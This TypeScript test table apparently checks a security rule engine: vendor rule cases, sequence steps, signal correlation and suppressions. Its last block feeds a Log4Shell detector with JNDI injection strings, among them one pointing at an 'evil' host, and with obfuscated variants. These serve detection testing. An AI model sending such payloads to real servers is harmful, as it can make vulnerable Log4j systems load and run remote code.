import { DAY, HOUR, type Row, ev, evs, kase, log, ms, q, rule, sig } from "./words.ts";

type Members = Record<string, unknown>;

const row = (at: string, says: string, payload: Members, logs: Row["logs"], told: Row["told"], more: Partial<Row> = {}): Row => ({ at, says, rule: payload, logs, told, ...more });

const vendor = (rootQueries: readonly Members[], thirdPartyCases: readonly Members[], more: Members = {}, options: Members = {}): Members => ({
  name: "Table rule", message: "told", isEnabled: true, type: "log_detection", tags: [], queries: [], cases: [], thirdPartyCases,
  options: { detectionMethod: "third_party", keepAlive: 0, maxSignalDuration: 86400, thirdPartyRuleOptions: { rootQueries, ...more }, ...options },
});
const root = (query = "@k:a", ...groupByFields: string[]): Members => ({ query, groupByFields: groupByFields.length ? groupByFields : ["@u"] });
const high = { name: "High", query: "@s:high", status: "high" };
const low = { name: "Low", query: "@s:low", status: "low" };
const alert = (u: string, seconds: number, s: string, more: Members = {}): Row["logs"][number] => ev("a", u, seconds, { s, ...more });

interface StepOf { readonly condition: string; readonly window?: number }
/** Steps s0, s1 ... with the windows between them. */
const sequence = (steps: readonly StepOf[], transitions: readonly number[], queries: readonly Members[], options: Members = {}, condition = `s${steps.length - 1} > 0`): Members =>
  rule([kase("done", "high", condition)], queries, {
    detectionMethod: "sequence_detection", evaluationWindow: 0, keepAlive: 0, ...options,
    sequenceDetectionOptions: {
      steps: steps.map((each, i) => ({ name: `s${i}`, condition: each.condition, evaluationWindow: each.window ?? 0 })),
      stepTransitions: transitions.map((evaluationWindow, i) => ({ parent: `s${i}`, child: `s${i + 1}`, evaluationWindow })),
    },
  });
const one: StepOf = { condition: "a > 0" };
const two: StepOf = { condition: "b > 0" };
const ab = [q("a"), q("b")];

const source = (id: string, more: Members = {}, options: Members = {}): Members => ({ ...rule([kase("src", "low", "x > 0")], [q("x", { query: `@k:${id}` })], { evaluationWindow: 0, keepAlive: 0, ...options }), id, ...more });
const of = (name: string, ruleId: string, correlatedByFields: readonly string[] = ["@u"], more: Members = {}): Members => ({ name, ruleId, aggregation: "event_count", correlatedByFields, ...more });
const correlation = (conditions: readonly unknown[], queries: readonly Members[], options: Members = {}, more: Members = {}): Members => ({ ...rule(conditions, queries, { evaluationWindow: 900, keepAlive: 3600, ...options }), type: "signal_correlation", ...more });
const sources = { also: [source("a"), source("b")] };
const both = correlation(["a > 0 && b > 0"], [of("a", "a"), of("b", "b")]);

const shell = (query: Members = {}): Members => rule([kase("hit", "critical")], [{ name: "a", query: "source:app", aggregation: "none", groupByFields: ["@u"], ...query }], { detectionMethod: "hardcoded", hardcodedEvaluatorType: "log4shell", evaluationWindow: 0, keepAlive: 0 });
const shout = (says: string, text: string, isAttack: boolean): Row => row("11", says, shell(), [log(0, { u: "x" }, { message: text })], isAttack ? [sig("x", 0, 0, { case: "hit", status: "critical" })] : []);

export const steps: readonly Row[] = [
  row("8", "the first case that matches", vendor([root()], [high, low]), [alert("x", 0, "low")], [sig("x", 0, 0, { case: "Low", status: "low", title: "Table rule - Low", count: 1 })]),
  row("8", "the order of the cases decides", vendor([root()], [{ name: "All", query: "*", status: "medium" }, high]), [alert("x", 0, "high")], [sig("x", 0, 0, { case: "All", status: "medium" })]),
  row("8", "no case: the default status, which is info", vendor([root()], [high]), [alert("x", 0, "odd")], [sig("x", 0, 0, { case: "", status: "info", title: "Table rule" })]),
  row("8", "no case: the default status that is said", vendor([root()], [high], { defaultStatus: "medium" }), [alert("x", 0, "odd")], [sig("x", 0, 0, { case: "", status: "medium" })]),
  row("8", "no root: ignored", vendor([root()], [high]), [ev("z", "x", 0, { s: "high" })], []),
  row("8", "the first root takes the event and gives the fields", vendor([root("@k:a @w:1", "@w"), root()], [high]), [alert("x", 0, "high", { w: 1 }), alert("x", 1, "high")], [sig({ "@w": "1" }, 0), sig("x", 1)]),
  row("8", "a root whose group value is missing takes it all the same, and it is ignored", vendor([root("@k:a", "@w"), root()], [high]), [alert("x", 0, "high")], []),
  row("8", "open for a day, whatever keepAlive says", vendor([root()], [high]), [alert("x", 0, "high"), alert("x", 50_000, "high"), alert("x", DAY, "high")], [sig("x", 0, DAY, { count: 3 })]),
  row("8", "then a new one", vendor([root()], [high]), [alert("x", 0, "high"), alert("x", DAY + 0.001, "high")], [sig("x", 0), sig("x", DAY + 0.001)]),
  row("8", "a shorter maximum", vendor([root()], [high], {}, { maxSignalDuration: 3600 }), [alert("x", 0, "high"), alert("x", 3600, "high"), alert("x", 3601, "high")], [sig("x", 0, 3600), sig("x", 3601)]),
  row("8", "another case is another signal", vendor([root()], [high, low]), [alert("x", 0, "low"), alert("x", 1, "high"), alert("x", 2, "low"), alert("x", 3, "odd")], [sig("x", 0, 2, { case: "Low", status: "low" }), sig("x", 1, 1, { case: "High" }), sig("x", 3, 3, { case: "" })]),
  row("8", "another root is another signal", vendor([root("@k:a @w:1"), root()], [high]), [alert("x", 0, "high", { w: 1 }), alert("x", 1, "high")], [sig("x", 0), sig("x", 1)]),
  row("8", "no group-by: every event its own", vendor([{ query: "@k:a", groupByFields: [] }], [high]), [alert("x", 0, "high"), alert("x", 0, "high")], [sig({}, 0), sig({}, 0)]),
  row("8", "group-by absent is the same", vendor([{ query: "@k:a" }], [high]), [alert("x", 0, "high"), alert("x", 1, "high")], [sig({}, 0), sig({}, 1)]),
  row("8", "two fields", vendor([root("@k:a", "@u", "@w")], [high]), [alert("x", 0, "high", { w: 1 }), alert("x", 1, "high", { w: 2 })], [sig({ "@u": "x", "@w": "1" }, 0), sig({ "@u": "x", "@w": "2" }, 1)]),
  row("8", "the title of a template", vendor([root()], [high], { signalTitleTemplate: "{{@s}} for {{@u}}" }), [alert("x", 0, "high")], [sig("x", 0, 0, { title: "high for x" })]),
  row("8", "flat cases pair with queries by position", { ...rule([kase("H", "high"), kase("L", "low")], [q("a", { query: "@s:high", aggregation: "none", groupByFields: [] }), q("b", { query: "@s:low", aggregation: "none", groupByFields: [] })], { detectionMethod: "third_party", thirdPartyRuleOptions: { rootQueries: [root()] } }) }, [alert("x", 0, "low"), alert("y", 1, "high")], [sig("x", 0, 0, { case: "L", status: "low" }), sig("y", 1, 1, { case: "H", status: "high" })]),
  row("8", "told per projection on groupSignalsBy", { ...vendor([root("@k:a", "@u", "@w")], [high]), groupSignalsBy: ["@u"] }, [alert("x", 0, "high", { w: 1 }), alert("x", 1, "high", { w: 2 })], [sig("x", 0, 1, { count: 2 })]),
  row("8", "the environment lowers it", vendor([root()], [high], {}, { decreaseCriticalityBasedOnEnv: true }), [{ ...alert("x", 0, "high"), tags: ["env:dev"] }], [sig("x", 0, 0, { status: "medium" })]),
  row("8", "suppressed", vendor([root()], [high]), [alert("x", 0, "high"), alert("y", 0, "high")], [sig("y", 0)], { suppressions: [{ enabled: true, rule_query: "*", suppression_query: "@u:x" }] }),

  row("9", "exactly the transition window is in time", sequence([one, two], [60], ab), [...evs("a", "x", 0), ...evs("b", "x", 60)], [sig("x", 60, 60, { case: "done", status: "high", count: 2 })]),
  row("9", "a millisecond more is not", sequence([one, two], [60], ab), [...evs("a", "x", 0), ...evs("b", "x", 60.001)], []),
  row("9", "the same event is not an earlier one", sequence([one, one], [60], [q("a")]), evs("a", "x", 0), []),
  row("9", "a second one of the same kind", sequence([one, one], [60], [q("a")]), evs("a", "x", 0, 10), [sig("x", 10, 10, { count: 2 })]),
  row("9", "of one millisecond, by arrival", sequence([one, two], [60], ab), [...evs("a", "x", 5), ...evs("b", "x", 5), ...evs("b", "y", 5), ...evs("a", "y", 5)], [sig("x", 5)]),
  row("9", "a later completion is another match", sequence([one, two], [60], ab), [...evs("a", "x", 0), ...evs("b", "x", 10, 20, 70)], [sig("x", 10, 10, { count: 2 }), sig("x", 20, 20, { count: 2 })]),
  row("9", "kept alive it is one signal", sequence([one, two], [60], ab, { keepAlive: 600 }), [...evs("a", "x", 0), ...evs("b", "x", 10, 20)], [sig("x", 10, 20, { count: 3 })]),
  row("9", "a first step that comes again begins again", sequence([one, two], [60], ab), [...evs("a", "x", 0, 50), ...evs("b", "x", 100)], [sig("x", 100)]),
  row("9", "the first step's window: (T - W, T]", sequence([{ condition: "a > 1", window: 60 }, two], [60], ab), [...evs("a", "x", 0, 60), ...evs("b", "x", 70), ...evs("a", "y", 0, 59.999), ...evs("b", "y", 70)], [sig("y", 70, 70, { count: 3 })]),
  row("9", "window 0: the event alone", sequence([{ condition: "a > 1" }, two], [60], ab), [...evs("a", "x", 0, 0), ...evs("b", "x", 1)], []),
  row("9", "only events after the parent fired count", sequence([one, { condition: "b > 1", window: 60 }], [300], ab), [...evs("b", "x", 0), ...evs("a", "x", 1), ...evs("b", "x", 2, 3)], [sig("x", 3)]),
  row("9", "after the earliest firing: those between two firings count", sequence([one, { condition: "b > 1", window: 300 }], [300], ab), [...evs("a", "x", 0), ...evs("b", "x", 10), ...evs("a", "x", 20), ...evs("b", "x", 30)], [sig("x", 30)]),
  row("9", "when the earliest has passed, those after the next", sequence([one, { condition: "b > 1", window: 300 }], [60], ab), [...evs("a", "x", 0), ...evs("b", "x", 10), ...evs("a", "x", 20), ...evs("b", "x", 70)], []),
  row("9", "three steps, each transition by itself", sequence([one, two, { condition: "c > 0" }], [60, 300], [...ab, q("c")]), [...evs("a", "x", 0), ...evs("b", "x", 60), ...evs("c", "x", 360), ...evs("a", "y", 0), ...evs("b", "y", 61), ...evs("c", "y", 62)], [sig("x", 360)]),
  row("9", "the middle step is missing", sequence([one, two, { condition: "c > 0" }], [60, 60], [...ab, q("c")]), [...evs("a", "x", 0), ...evs("c", "x", 1)], []),
  row("9", "steps in another order", sequence([one, two, { condition: "c > 0" }], [60, 60], [...ab, q("c")]), [...evs("b", "x", 0), ...evs("a", "x", 1), ...evs("c", "x", 2)], []),
  row("9", "joined by value, fields of other names", sequence([one, two], [60], [q("a"), q("b", { groupByFields: ["@login"] })]), [...evs("a", "x", 0), log(1, { k: "b", login: "x" }), log(2, { k: "b", login: "y" })], [sig("x", 1)]),
  row("9", "without groups", sequence([one, two], [60], [q("a", { groupByFields: [] }), q("b", { groupByFields: [] })]), [...evs("a", "x", 0), ...evs("b", "y", 1)], [sig({}, 1)]),
  row("9", "a condition over two queries", sequence([one, { condition: "b > 0 && c > 0", window: 60 }], [60], [...ab, q("c")]), [...evs("a", "x", 0), ...evs("c", "x", 1), ...evs("b", "x", 2)], [sig("x", 2, 2, { count: 3 })]),
  row("9", "a query that counts distinct values", sequence([{ condition: "a > 1", window: 60 }, two], [60], [q("a", { aggregation: "cardinality", distinctFields: ["@v"] }), q("b")]), [ev("a", "x", 0, { v: 1 }), ev("a", "x", 1, { v: 1 }), ev("b", "x", 2), ev("a", "y", 0, { v: 1 }), ev("a", "y", 1, { v: 2 }), ev("b", "y", 2)], [sig("y", 2)]),
  row("9", "a query that sums", sequence([{ condition: "a > 10", window: 60 }, two], [60], [q("a", { aggregation: "sum", metrics: ["@n"] }), q("b")]), [ev("a", "x", 0, { n: 5 }), ev("a", "x", 1, { n: "6" }), ev("b", "x", 2)], [sig("x", 2)]),
  row("9", "out of order of arrival", sequence([one, two], [60], ab), [...evs("b", "x", 10), ...evs("a", "x", 0)], [sig("x", 10)]),
  row("9", "a transition of no time: within the millisecond", sequence([one, two], [0], ab), [...evs("a", "x", 0), ...evs("b", "x", 0), ...evs("a", "y", 1), ...evs("b", "y", 1.001)], [sig("x", 0)]),
  row("9", "the middle step comes late", sequence([one, two, { condition: "c > 0" }], [60, 60], [...ab, q("c")]), [...evs("a", "x", 0), ...evs("c", "x", 50), ...evs("b", "x", 20)], [sig("x", 50, 50, { count: 3 })]),
  row("9", "a first step that comes late and begins earlier", sequence([one, { condition: "b > 1", window: 300 }], [300], ab), [...evs("a", "x", 50), ...evs("b", "x", 40, 60), ...evs("a", "x", 10)], [sig("x", 60, 60, { count: 3 })]),
  row("9", "a query without groups in the second step", sequence([one, two], [60], [q("a"), q("b", { groupByFields: [] })]), [...evs("a", "x", 0), ...evs("a", "y", 50), ...evs("b", "z", 70)], [sig("y", 70)]),
  row("9", "suppressed for one match, told for the next", sequence([one, two], [60], ab), [...evs("a", "x", 0), ...evs("b", "x", 10, 20)], [sig("x", 20, 20, { count: 2 })], { suppressions: [{ enabled: true, rule_query: "*", suppression_query: "*", expiration_date: ms(15) }] }),
  row("9", "a day between two steps", sequence([one, two], [86400], ab), [...evs("a", "x", 0), ...evs("b", "x", DAY)], [sig("x", DAY)]),
  row("9", "ten steps", sequence(Array.from({ length: 10 }, () => one), Array.from({ length: 9 }, () => 60), [q("a")]), evs("a", "x", ...Array.from({ length: 10 }, (_, i) => i)), [sig("x", 9, 9, { count: 10 })]),
  row("9", "a single step", sequence([{ condition: "a > 1", window: 60 }], [], [q("a")]), evs("a", "x", 0, 10), [sig("x", 10, 10, { count: 2 })]),

  row("10", "both in the window", both, [...evs("a", "x", 0), ...evs("b", "x", 10)], [sig("x", 10, 10, { count: 2, title: "Table rule - c" })], sources),
  row("10", "exactly the window apart", both, [...evs("a", "x", 0), ...evs("b", "x", 900)], [], sources),
  row("10", "a little less", both, [...evs("a", "x", 0), ...evs("b", "x", 899)], [sig("x", 899)], sources),
  row("10", "another value", both, [...evs("a", "x", 0), ...evs("b", "y", 10)], [], sources),
  row("10", "extensions do not count", correlation(["a > 1"], [of("a", "a")]), evs("a", "x", 0, 10, 20), [], { also: [source("a", {}, { keepAlive: 600 })] }),
  row("10", "openings do", correlation(["a > 1"], [of("a", "a")]), evs("a", "x", 0, 10, 20), [sig("x", 10, 20, { count: 3 })], sources),
  row("10", "suppressed signals are not seen", both, [...evs("a", "x", 0), ...evs("b", "x", 10)], [], { ...sources, suppressions: [{ enabled: true, rule_query: "id:a", suppression_query: "*" }] }),
  row("10", "signals of a disabled rule do not exist", both, [...evs("a", "x", 0), ...evs("b", "x", 10)], [], { also: [source("a", { isEnabled: false }), source("b")] }),
  row("10", "at first seen, not at the event's arrival", correlation(["a > 0 THEN b > 0"], [of("a", "a"), of("b", "b")]), [...evs("b", "x", 10), ...evs("a", "x", 0)], [sig("x", 10)], sources),
  row("10", "THEN wants the order", correlation(["a > 0 THEN b > 0"], [of("a", "a"), of("b", "b")]), [...evs("b", "x", 0), ...evs("a", "x", 10)], [], sources),
  row("10", "an attribute that is not in the group", correlation(["a > 0 && b > 0"], [of("a", "a", ["@ip"]), of("b", "b", ["@ip"])]), [ev("a", "x", 0, { ip: 1 }), ev("b", "y", 10, { ip: 1 })], [sig({ "@ip": "1" }, 10)], sources),
  row("10", "a tag", correlation(["a > 0 && b > 0"], [of("a", "a", ["env"]), of("b", "b", ["env"])]), [ev("a", "x", 0, {}, { tags: ["env:p"] }), ev("b", "y", 10, {}, { tags: ["env:p"] })], [sig({ env: "p" }, 10)], sources),
  row("10", "fields of other names join by value, labelled by the first", correlation(["a > 0 && b > 0"], [of("a", "a", ["@u"]), of("b", "b", ["@login"])]), [ev("a", "x", 0), ev("b", "q", 10, { login: "x" })], [sig("x", 10)], sources),
  row("10", "without fields: one group", correlation(["a > 0 && b > 0"], [of("a", "a", []), of("b", "b", [])]), [...evs("a", "x", 0), ...evs("b", "y", 10)], [sig({}, 10)], sources),
  row("10", "a missing value: the signal plays no part", correlation(["a > 0"], [of("a", "a", ["@ip"])]), evs("a", "x", 0), [], sources),
  row("10", "two fields", correlation(["a > 0 && b > 0"], [of("a", "a", ["@u", "@ip"]), of("b", "b", ["@u", "@ip"])]), [ev("a", "x", 0, { ip: 1 }), ev("b", "x", 10, { ip: 2 }), ev("b", "x", 20, { ip: 1 })], [sig({ "@u": "x", "@ip": "1" }, 20)], sources),
  row("10", "cases in order", correlation([kase("many", "high", "a > 1"), kase("one", "low", "a > 0")], [of("a", "a")]), evs("a", "x", 0, 10), [sig("x", 0, 10, { case: "many", status: "high" })], sources),
  row("10", "W = 0: the signal alone", correlation(["a > 1"], [of("a", "a")], { evaluationWindow: 0, keepAlive: 0 }), evs("a", "x", 0, 0), [], sources),
  row("10", "its life cycle is its own", correlation(["a > 0"], [of("a", "a")], { evaluationWindow: 300, keepAlive: 300 }), evs("a", "x", 0, 299, 599), [sig("x", 0, 299), sig("x", 599)], sources),
  row("10", "suppressed itself", correlation(["a > 0"], [of("a", "a")]), evs("a", "x", 0), [], { ...sources, suppressions: [{ enabled: true, rule_query: "type:signal_correlation", suppression_query: "@u:x" }] }),
  row("10", "over a correlation rule", correlation(["c > 0"], [of("c", "c")]), [...evs("a", "x", 0), ...evs("b", "x", 5)], [sig("x", 5)], { also: [source("a"), source("b"), { ...both, id: "c" }] }),
  row("10", "over new values", correlation(["a > 0"], [of("a", "nv")]), [ev("a", "x", 0, { v: 1 }), ev("a", "x", 5, { v: 2 })], [sig("x", 5)], { also: [{ ...rule([kase("", "low")], [q("a", { aggregation: "new_value", metrics: ["@v"] })], { detectionMethod: "new_value", evaluationWindow: 0, keepAlive: 0 }), id: "nv" }] }),
  row("10", "all hosts of a signal", correlation(["j > 0"], [of("j", "j", ["host"])]), [ev("a", "x", 0, {}, { host: "h1" }), ev("a", "x", 5, {}, { host: "h2" })], [sig({ host: "h1" }, 5), sig({ host: "h2" }, 5)], { also: [{ ...rule(["a > 1"], [q("a")], { evaluationWindow: 60 }), id: "j" }] }),
  row("10", "a new signal counts what its window holds, though an earlier one counted it", correlation(["a > 1"], [of("a", "a")], { evaluationWindow: 300, keepAlive: 300, maxSignalDuration: 300 }, { message: "{{events_matched_per_query.a}}" }), evs("a", "x", 0, 100, 350, 420), [sig("x", 100, 350, { count: 3 }), sig("x", 420, 420, { count: 2, message: "2" })], sources),
  row("10", "restricted to one query's events", correlation(["j > 0"], [of("j", "j", ["@ip"], { correlatedQueryIndex: 1 })]), [ev("a", "x", 0, { ip: 1 }), ev("b", "x", 5, { ip: 2 })], [sig({ "@ip": "2" }, 5)], { also: [{ ...rule(["a > 0 && b > 0"], [q("a"), q("b")], { evaluationWindow: 60 }), id: "j" }] }),
  row("10", "not restricted: both values", correlation(["j > 0"], [of("j", "j", ["@ip"])]), [ev("a", "x", 0, { ip: 1 }), ev("b", "x", 5, { ip: 2 })], [sig({ "@ip": "1" }, 5), sig({ "@ip": "2" }, 5)], { also: [{ ...rule(["a > 0 && b > 0"], [q("a"), q("b")], { evaluationWindow: 60 }), id: "j" }] }),

  shout("plain", "GET /?q=${jndi:ldap://evil/a}", true),
  ...["ldaps", "rmi", "dns", "iiop", "corba", "nis", "nds", "http", "https"].map((scheme) => shout(scheme, `\${jndi:${scheme}://h/x}`, true)),
  shout("any case", "${JnDi:LDAP://h/x}", true),
  shout("lower and upper", "${${lower:J}ndi:${upper:l}dap://h}", true),
  shout("defaults", "${${::-j}${::-n}${env:X:-d}i:${::-l}dap://h}", true),
  shout("eight deep", `\${${"${lower:".repeat(8)}j${"}".repeat(8)}ndi:ldap://h}`, true),
  shout("nine deep is too deep", `\${${"${lower:".repeat(9)}j${"}".repeat(9)}ndi:ldap://h}`, false),
  shout("another scheme", "${jndi:ftp://h/x}", false),
  shout("another lookup", "${java:version}", false),
  shout("no dollar", "{jndi:ldap://h/x}", false),
  shout("words about it", "jndi:ldap://h/x", false),
  row("11", "in an attribute, however deep", shell(), [log(0, { u: "x", req: { headers: [{ agent: "${jndi:dns://h}" }] } })], [sig("x", 0)]),
  row("11", "only events of the query", shell({ query: "source:other" }), [log(0, { u: "x" }, { message: "${jndi:dns://h}" })], []),
  row("11", "each event is a match", shell(), [log(0, { u: "x" }, { message: "${jndi:dns://h}" }), log(HOUR, { u: "x" }, { message: "${jndi:dns://h}" })], [sig("x", 0), sig("x", HOUR)]),
  row("11", "suppressed until", shell(), [log(0, { u: "x" }, { message: "${jndi:dns://h}" }), log(HOUR, { u: "x" }, { message: "${jndi:dns://h}" })], [sig("x", HOUR)], { suppressions: [{ enabled: true, rule_query: "*", suppression_query: "*", expiration_date: ms(60) }] }),
];
